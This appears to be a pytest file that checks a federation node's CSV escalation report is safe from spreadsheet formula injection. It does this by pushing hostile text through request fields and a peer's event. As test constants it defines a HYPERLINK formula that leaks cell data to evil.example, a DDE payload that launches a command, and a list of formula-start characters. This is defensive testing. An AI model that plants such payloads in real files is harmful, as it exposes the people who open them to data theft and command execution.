"""Formula injection into the CSV escalation report (``cccfed obligations --csv``).

A spreadsheet program runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula. The
report is opened by people in Excel, and some of what a node stores comes from other provinces.
The defence is that every value the report writes is one the node validated to a closed form
(node codes, GB/T 2260 bureau codes, ISO dates, canonical UUIDs, counts); free text such as the
holder's name never goes into it. This test feeds hostile text through the real paths (a request
file's free-text fields, and a peer's event with a formula as its bureau code) and checks the
CSV a real escalation produces.

Nodes are real (keys, manifest, SQLite stores, intake and receipts) with an injected clock, so
that the request can become overdue; the transport is the simulated one of
``tests/assistance_harness.py``, which runs the receiver's real intake.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest

from cccfed.v1 import assistance_pb2 as pb
from federation.errors import FederationError
from node import pki
from node.assistance import Assistance
from node.local import free_ports
from tests.assistance_harness import Clock, deliver_all, new_request, node_at, read, receive
from tests.grpc.conftest import JS, SH
from tests.security.conftest import snapshot

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_escalation_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    root = tmp_path / "fed"
    pki.init_federation(root, [SH, JS], ports=dict(zip((SH, JS), free_ports(2), strict=True)))
    clock = Clock(datetime.now(UTC))
    sh = node_at(root, SH, tmp_path / "sh.db", clock)
    js = node_at(root, JS, tmp_path / "js.db", clock)
    try:
        rid = new_request(
            sh,
            holder={"name": FORMULA, "uscc": "91310000631696382C"},
            place_of_use=DDE,
            background=FORMULA,
        )
        assert deliver_all(sh, js) == []

        # A hostile responder assigns the request to a "bureau" that is a formula.
        accepted = pb.RequestAccepted(request_id=rid, assigned_bureau="=1+1", index=0, seen=1)
        accepted.assignee.name = FORMULA
        accepted.assignee.phone = "021-5010 2233"
        before = snapshot(sh.engine)
        with pytest.raises(FederationError) as ei:
            receive(sh, JS, js.seal(SH, accepted, correlation_id=rid), "assistance")
        assert ei.value.reason == "INVALID_TRANSITION"  # a void event: PROTOCOL.md §15 item 16
        assert snapshot(sh.engine) == before

        clock.advance(days=40)  # long past the 15-day reply period
        report = read(sh, lambda c: sh.assistance.escalation(c, clock()))
        assert report and report[0]["oldest_request_id"] == rid
        text = Assistance.escalation_csv(report)
    finally:
        sh.close()
        js.close()

    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert cells
    assert [c for c in cells if c.startswith(FORMULA_STARTS)] == []
    assert FORMULA not in text and DDE not in text and "=1+1" not in text
